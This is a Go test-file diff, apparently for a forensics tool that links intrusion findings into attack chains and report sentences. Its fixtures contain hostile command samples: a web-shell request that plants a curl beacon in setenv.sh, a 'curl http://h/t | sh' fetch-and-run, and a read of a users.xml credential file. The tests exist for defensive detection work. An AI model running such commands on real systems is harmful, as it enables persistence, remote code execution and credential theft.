@@ -383,3 +383,101 @@ func TestSummaryLineCountsSayWhichIOCs(t *testing.T) {
 		t.Errorf("summary %q lacks %q", got, want)
 	}
 }
+
+// A request's link quotes its URL and the command it ran: an address or a
+// path inside that quoted text does not make the request the cause of
+// another process's act. A connect by a process the request did not
+// spawn (a beacon started later, elsewhere) is not "in this chain" through
+// it; the peer's own link, or the process's ancestry, says why it is.
+func TestFindingLinkNotThroughQuotedText(t *testing.T) {
+	t0 := time.Date(2026, 12, 3, 15, 42, 37, 0, time.UTC)
+	req := "request: GET /view.jsp?s=echo%20curl%20http://10.0.0.9:8001/u%20%3E%3E%20/srv/bin/setenv.sh at 15:42:37.000 → java pid 500 → /bin/sh -c echo 'curl http://10.0.0.9:8001/u' >> /srv/bin/setenv.sh (high confidence: parameter)"
+	links := []string{
+		req,
+		"ancestry: pid 1550 (dash) spawned by java pid 500",
+		"detached (inferred): pid 1611 (dash) started under init 8ms after pid 1610 (dash) ran a shell",
+		"peer: 10.0.0.9:8001, a peer of command-and-control acts, connected to by pid 1612 (curl) at 15:42:41.734; seen in 17 connects",
+	}
+	ch := &DocChain{ID: "C01", Links: links, Requests: []DocRequest{
+		{Time: t0, Method: "GET", URL: "/view.jsp?s=echo%20curl%20http://10.0.0.9:8001/u%20%3E%3E%20/srv/bin/setenv.sh", PID: 1550},
+	}}
+	curl := func(pid int) *DocProcess {
+		return &DocProcess{PID: pid, PPID: 1611, Exe: "/usr/bin/curl", Ancestors: []DocAncestor{{PID: 1611, Exe: "/usr/bin/dash"}, {PID: 1}}}
+	}
+	sh := &DocProcess{PID: 1550, PPID: 500, Exe: "/usr/bin/dash", Ancestors: []DocAncestor{{PID: 500, Exe: "/usr/bin/java"}}}
+	for _, tc := range []struct {
+		name string
+		f    DocFinding
+		want string
+	}{
+		{"the beacon's first connect", DocFinding{ID: "F1", ChainID: "C01", Kind: "connect", Peer: "10.0.0.9:8001", Process: curl(1612)}, "peer: 10.0.0.9:8001,"},
+		{"a later poll's connect", DocFinding{ID: "F2", ChainID: "C01", Kind: "connect", Peer: "10.0.0.9:8001", Process: curl(1712)}, "peer: 10.0.0.9:8001,"},
+		{"the request's own write", DocFinding{ID: "F3", ChainID: "C01", Kind: "file-write", File: "/srv/bin/setenv.sh", Process: sh}, "request: GET /view.jsp"},
+		{"a write by a process the request did not spawn", DocFinding{ID: "F4", ChainID: "C01", Kind: "file-write", File: "/srv/bin/setenv.sh", Process: curl(1812)}, "through its ancestor dash[1611]: detached"},
+	} {
+		ch.FindingIDs = []string{tc.f.ID}
+		f := tc.f
+		linkFindings(ch, map[string]*DocFinding{f.ID: &f})
+		if !strings.HasPrefix(f.ChainLink, tc.want) {
+			t.Errorf("%s: link %q, want %q", tc.name, f.ChainLink, tc.want)
+		}
+	}
+}
+
+// "(through requests to X)" is said of the files those requests' processes
+// wrote, not of every file of the stage: the server's own write of a
+// deployed archive's page, before any request to it, is told apart.
+func TestStageSentenceFilesThroughOnlyWhatRequestsCaused(t *testing.T) {
+	t0 := time.Date(2026, 12, 3, 15, 42, 18, 0, time.UTC)
+	java := &DocProcess{PID: 500, Exe: "/usr/bin/java", User: "svc", UID: 2008}
+	cp := &DocProcess{PID: 1499, PPID: 500, Exe: "/usr/bin/cp", User: "svc", UID: 2008,
+		Args: []string{"cp", "/w/a/WEB-INF/p.jsp", "/w/stock/css/p.jsp"}, Ancestors: []DocAncestor{{PID: 500, Exe: "/usr/bin/java"}}}
+	fs := []DocFinding{
+		{ID: "F0001", Title: "W", Severity: "high", Stage: 2, StageID: "webshell-upload", Time: t0, Kind: "file-write",
+			File: "/w/a/view.jsp", ChainID: "C01", Outcome: OutcomeSuccess, Process: java},
+		{ID: "F0002", Title: "W", Severity: "high", Stage: 2, StageID: "webshell-upload", Time: t0.Add(17 * time.Second), Kind: "file-write",
+			File: "/w/stock/css/p.jsp", ChainID: "C01", Outcome: OutcomeSuccess, Process: cp},
+	}
+	byID := map[string]*DocFinding{}
+	for i := range fs {
+		byID[fs[i].ID] = &fs[i]
+	}
+	sg := DocStage{Stage: 2, StageID: "webshell-upload", Name: "Web shell upload", Observed: true, Confidence: "observed", FindingIDs: []string{"F0001", "F0002"}}
+	ch := &DocChain{ID: "C01", FindingIDs: sg.FindingIDs, Stages: []DocStage{sg},
+		Requests: []DocRequest{{Time: t0.Add(17 * time.Second), Method: "GET", URL: "/a/view.jsp?c=cp", Status: 200, Client: "10.0.0.9", PID: 1499}}}
+	got := sentence(ch, sg, byID, "").Text
+	want := "wrote /w/stock/css/p.jsp (through requests to /a/view.jsp); wrote /w/a/view.jsp"
+	if !strings.Contains(got, want) {
+		t.Errorf("%q: want %q", got, want)
+	}
+}
+
+// A process whose request is ambiguous (several candidates, none picked)
+// did not run "through requests to X" of another request of the stage: the
+// sentence lists it apart.
+func TestStageSentenceAmbiguousRequestNotThrough(t *testing.T) {
+	t0 := time.Date(2026, 12, 3, 15, 42, 31, 0, time.UTC)
+	java := DocAncestor{PID: 500, Exe: "/usr/bin/java"}
+	ex := func(id string, pid int, args ...string) DocFinding {
+		return DocFinding{ID: id, Title: "T", Severity: "high", Stage: 4, StageID: "suspicious-process-spawn", Time: t0, Kind: "exec",
+			ChainID: "C01", Outcome: OutcomeSuccess, Process: &DocProcess{PID: pid, PPID: 500, Exe: "/usr/bin/" + args[0], Args: args, Ancestors: []DocAncestor{java}}}
+	}
+	fs := []DocFinding{
+		ex("F0001", 1326, "cat", "/srv/conf/users.xml"),
+		ex("F0002", 1610, "sh", "-c", "setsid sh -c 'curl http://h/t | sh' &"),
+	}
+	byID := map[string]*DocFinding{}
+	for i := range fs {
+		byID[fs[i].ID] = &fs[i]
+	}
+	sg := DocStage{Stage: 4, StageID: "suspicious-process-spawn", Name: "Suspicious process spawn", Observed: true, Confidence: "observed", FindingIDs: []string{"F0001", "F0002"}}
+	ch := &DocChain{ID: "C01", FindingIDs: sg.FindingIDs, Stages: []DocStage{sg}, Requests: []DocRequest{
+		{Time: t0, Method: "GET", URL: "/a/view.jsp?c=cat", Status: 200, Client: "10.0.0.9", PID: 1326},
+		{Time: t0.Add(10 * time.Second), PID: 1610, LinkBasis: "ambiguous", Inferred: true,
+			Candidates: []DocRequest{{Method: "GET", URL: "/stock/css/print.jsp"}, {Method: "GET", URL: "/stock/"}}},
+	}}
+	got := sentence(ch, sg, byID, "").Text
+	if want := "ran `cat /srv/conf/users.xml` through requests to /a/view.jsp; ran `setsid"; !strings.Contains(got, want) {
+		t.Errorf("%q: want %q", got, want)
+	}
+}
